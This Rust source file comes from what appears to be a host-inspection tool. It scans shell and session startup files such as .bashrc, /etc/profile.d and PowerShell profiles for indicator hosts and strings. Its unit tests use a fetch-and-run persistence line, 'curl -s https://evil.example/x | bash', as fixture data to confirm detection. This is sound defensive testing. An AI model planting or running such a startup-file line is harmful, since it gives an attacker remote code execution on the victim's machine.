//! What shells and graphical sessions read when they start.
//!
//! ```text
//! ~/.bashrc  ~/.bash_profile  ~/.bash_login  ~/.bash_logout  ~/.bash_aliases  ~/.profile
//! ~/.zshrc  ~/.zshenv  ~/.zprofile  ~/.zlogin  ~/.zlogout  ~/.kshrc  ~/.cshrc  ~/.tcshrc  ~/.login
//! ~/.xprofile  ~/.xinitrc  ~/.xsession  ~/.xsessionrc
//! ~/.config/fish/config.fish  ~/.config/fish/conf.d/*.fish  ~/.oh-my-zsh/custom/*.zsh
//! /etc/profile  /etc/profile.d/*  /etc/bash.bashrc  /etc/bashrc  /etc/zsh/*  /etc/zshrc  /etc/zshenv  /etc/zprofile  /etc/fish/**
//! ~/.config/powershell/*profile.ps1  Documents/{PowerShell,WindowsPowerShell}/*profile.ps1
//! ```
//!
//! A file of such a name that is no account's own (a skeleton, somebody's collection of settings) starts nothing. A hit says that a line
//! holds a text that an indicator asks for; the line itself never leaves this reader. It does not say that it was run. Documented in
//! bash(1), zsh(1), csh(1), fish(1) and PowerShell's "About Profiles".

use crate::{
    fact::TreePath,
    interest::Interest,
    surface::{
        Claim, CommandSource, Flaw, Meta, Opened, Shows, Sink, Surface,
        content::text,
        hook::{Hooks, When, is_of_home},
    },
};

const FILE: usize = 4 << 20;

/// In a home.
const OWN: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".bash_aliases",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".kshrc",
    ".cshrc",
    ".tcshrc",
    ".login",
    ".xprofile",
    ".xinitrc",
    ".xsession",
    ".xsessionrc",
];
/// Of the system.
const SYSTEM: &[&str] =
    &["profile", "bash.bashrc", "bashrc", "zshrc", "zshenv", "zprofile", "zlogin", "csh.cshrc", "csh.login"];
const FOLDERS: &[&str] = &["etc/profile.d", "etc/zsh", "etc/X11/Xsession.d", "etc/X11/xinit/xinitrc.d"];

/// `.bashrc` and its kin.
pub struct ShellStartup;

static META: Meta = Meta {
    id: "host/shell-startup",
    title: "what shells and sessions read when they start",
    proves: "a line with that text stands there; not that it ran",
};

impl Surface for ShellStartup {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Packages, Shows::Images, Shows::Network, Shows::Strings, Shows::Processes]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        let own = OWN.iter().map(|name| Claim::name(name));
        let system = SYSTEM.iter().map(|name| Claim::name(name).in_root("etc"));
        let folders = FOLDERS.iter().map(|folder| Claim::any().in_root(folder));
        let others = [
            Claim::name("config.fish"),
            Claim::suffix(".fish").in_tail("fish/conf.d"),
            Claim::suffix(".zsh").in_tail(".oh-my-zsh/custom"),
        ];
        let profiles = ["powershell", "PowerShell", "WindowsPowerShell"]
            .into_iter()
            .flat_map(|folder| ["profile.ps1", "_profile.ps1"].map(|end| Claim::suffix(end).in_tail(folder)));
        own.chain(system).chain(folders).chain(others).chain(profiles).collect()
    }

    fn commands(&self) -> CommandSource {
        CommandSource::Configured
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let (path, interest) = (file.entry.path.clone(), file.interest);
        let text = text(file.all(FILE)?).into_owned();
        let of_system = path.as_bytes().starts_with(b"etc/") && !is_of_home_by_name(&path);
        let when = if of_system || is_own(&path) { When::ByItself } else { When::ByHand };
        let account = of_system.then_some(crate::fact::Whereabouts::UNSAID);
        let mut hooks = Hooks::new(file, interest, out)?;
        hooks.script(&text, when, account);
        hooks.finish()
    }
}

fn is_of_home_by_name(path: &TreePath) -> bool {
    OWN.iter().any(|name| path.name() == name.as_bytes())
}

/// Whether an account's shell reads a file of such a name there.
fn is_own(path: &TreePath) -> bool {
    if is_of_home_by_name(path) {
        return is_of_home(path, 0);
    }
    // Folders that programs make in homes alone.
    [2, 3].into_iter().any(|folders| is_of_home(path, folders))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fact::{Fact, TraceKind},
        surface::python::trial::tried,
    };

    fn said(path: &str, text: &str) -> Vec<String> {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "PAYLOAD")]);
        let tried = tried(&ShellStartup, path, text.as_bytes(), &interest);
        let words = |s: &crate::fact::Seen| {
            let line = s.origin.line.unwrap_or(0);
            match &s.fact {
                Fact::Trace(t) => format!("{} {:?}:{line}", t.value, t.held),
                Fact::Command(c) => format!("{} {}:{line}", c.tool, c.wanted[0].name),
                Fact::Starts(c) => format!("{:?} {}", c.action, c.whereabouts.environment.as_deref().unwrap_or("-")),
                other => format!("{other:?}"),
            }
        };
        tried.seen.iter().map(words).collect()
    }

    #[test]
    fn what_a_shell_reads_starts_by_itself() {
        let text = "# PAYLOAD\nexport A=1\n(curl -s https://evil.example/x | bash) &\nnode ~/x PAYLOAD\npipx run tool==1.0\n~/v/bin/python ~/a.py &\n";
        for path in [
            "home/ada/.bashrc",
            "root/.profile",
            "Users/bo/.zshrc",
            "etc/profile.d/x.sh",
            "etc/bash.bashrc",
            "home/ada/.config/fish/conf.d/x.fish",
            "home/ada/.config/fish/config.fish",
        ] {
            let expected = ["evil.example Starts:3", "PAYLOAD Starts:4", "pipx tool:5", "Start ~/v"];
            assert_eq!(said(path, text), expected, "{path}");
        }
    }

    #[test]
    fn copies_and_mentions_start_nothing() {
        let text = "curl -s https://evil.example/x | bash\n";
        for path in ["home/ada/dotfiles/.bashrc", "srv/skel/.zshrc", "etc/skel/.bashrc"] {
            assert!(said(path, text).iter().all(|s| s.contains("Named")), "{path}");
        }
        for text in [
            "",
            "# curl https://evil.example\n",
            "alias look='grep -r PAYLOAD /tmp'\n",
            "export BLOCK=evil.example\n",
            "echo pipx run x==1.0\n",
            "\0\u{1b}[\n",
        ] {
            assert_eq!(said("home/ada/.bashrc", text), [""; 0], "{text}");
        }
        assert!(said("home/ada/.bashrc", &"pipx run x==1.0\n".repeat(90_000)).len() <= 1200);
    }
}
